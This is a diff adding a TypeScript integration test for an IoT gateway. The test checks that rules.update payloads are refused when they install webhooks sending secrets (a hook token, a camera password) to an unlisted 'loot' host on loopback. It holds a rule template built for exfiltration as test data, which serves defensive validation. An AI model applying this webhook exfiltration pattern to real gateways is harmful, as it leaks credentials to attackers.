@@ -1,5 +1,7 @@
 import { createHash } from 'node:crypto';
 import { writeFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import type { CloudEvent } from '@gridlink/protocol';
 import { createTestCertificates } from '@gridlink/testkit';
@@ -388,6 +390,82 @@ rules:
       error: expect.stringContaining('cloud rules'),
     });
     expect(gateway.rules.reload()).toEqual({ ok: true, rules: builtinRules().length });
+  }, 30_000);
+
+  it('attack: a rules.update installing a webhook that sends the gateway’s secrets to a LAN host is refused, and the refusal reported to the cloud', async () => {
+    // A loopback server stands in for a host on the community LAN that nobody listed.
+    const hits: string[] = [];
+    const loot = createServer((req, res) => {
+      hits.push(`${req.url} ${JSON.stringify(req.headers)}`);
+      req.resume();
+      res.writeHead(204).end();
+    });
+    await new Promise<void>((resolve) => loot.listen(0, '127.0.0.1', resolve));
+    cleanup.push(() => new Promise((resolve) => loot.close(resolve)));
+    const port = (loot.address() as AddressInfo).port;
+    process.env.GRIDLINK_TEST_CAMERA_PASSWORD = 'camera-password-1';
+    cleanup.push(async () => delete process.env.GRIDLINK_TEST_CAMERA_PASSWORD);
+    const { cloud, gateway, connect } = await system(
+      {},
+      { rules: { webhook_targets: ['https://property.example.cn/hooks/'], webhook_secrets: ['PROPERTY_HOOK_TOKEN'] } },
+    );
+    const rulesYaml = (url: string, header: string) =>
+      [
+        'version: 1',
+        'rules:',
+        '  - id: smoke.exfiltrate',
+        '    name: { zh: 烟感, en: Smoke }',
+        '    selector: { kinds: [smoke_detector] }',
+        '    condition: { type: event, event: alarm }',
+        '    severity: major',
+        '    category: other',
+        "    message: { zh: '{device_id}', en: '{device_id}' }",
+        '    actions:',
+        `      - { type: webhook, url: '${url}', headers: { x-loot: '${header}' } }`,
+        '',
+      ].join('\n');
+    const send = async (id: string, yaml: string) => {
+      const sha256 = createHash('sha256').update(yaml).digest('hex');
+      await cloud.cloud.enqueueDownlink(GATEWAY, {
+        id,
+        created_at: '2026-11-25T08:00:00.000Z',
+        type: 'rules.update',
+        data: { version: 1, sha256, rules_yaml: yaml },
+      });
+    };
+    const result = async (id: string) =>
+      (
+        await cloud.query<{ result: string; error: string | null }>(
+          'SELECT result, error FROM downlink WHERE id = $1',
+          [id],
+        )
+      )[0];
+
+    await send('rules-loot-target', rulesYaml(`http://127.0.0.1:${port}/loot`, `\${PROPERTY_HOOK_TOKEN}`));
+    await send(
+      'rules-loot-secret',
+      rulesYaml('https://property.example.cn/hooks/alarm', `x \${GRIDLINK_TEST_CAMERA_PASSWORD}`),
+    );
+    await expect.poll(async () => (await result('rules-loot-secret'))?.result, { timeout: 10_000 }).toBe('rejected');
+    expect(await result('rules-loot-target')).toEqual({
+      result: 'rejected',
+      error: `cloud rules: rules.0.actions.0.url: http://127.0.0.1:${port}/loot (rule smoke.exfiltrate) is not a webhook target of this gateway: the installer lists the URLs webhooks may post to in the gateway's rules.webhook_targets (1 listed)`,
+    });
+    expect(await result('rules-loot-secret')).toEqual({
+      result: 'rejected',
+      error:
+        'cloud rules: rules.0.actions.0.headers.x-loot: $' +
+        "{GRIDLINK_TEST_CAMERA_PASSWORD} (rule smoke.exfiltrate) is not a webhook secret of this gateway: only variables the installer lists in the gateway's rules.webhook_secrets may be sent",
+    });
+    // Neither set is in force, nor kept to be loaded later: an alarm raises nothing and posts nothing.
+    expect(gateway.rules.reload()).toEqual({ ok: true, rules: 0 });
+    const smoke = await connect('smoke-1');
+    await smoke.publishAsync('gridlink/smoke-1/event/alarm', JSON.stringify({ ts: new Date().toISOString() }), {
+      qos: 1,
+    });
+    await expect.poll(async () => (await deviceEvents(cloud)).length, { timeout: 20_000 }).toBe(1);
+    expect(gateway.rules.active()).toEqual([]);
+    expect(hits).toEqual([]);
   }, 30_000);
 
   it('exports the outbox, the link and the downlink as Prometheus metrics', async () => {
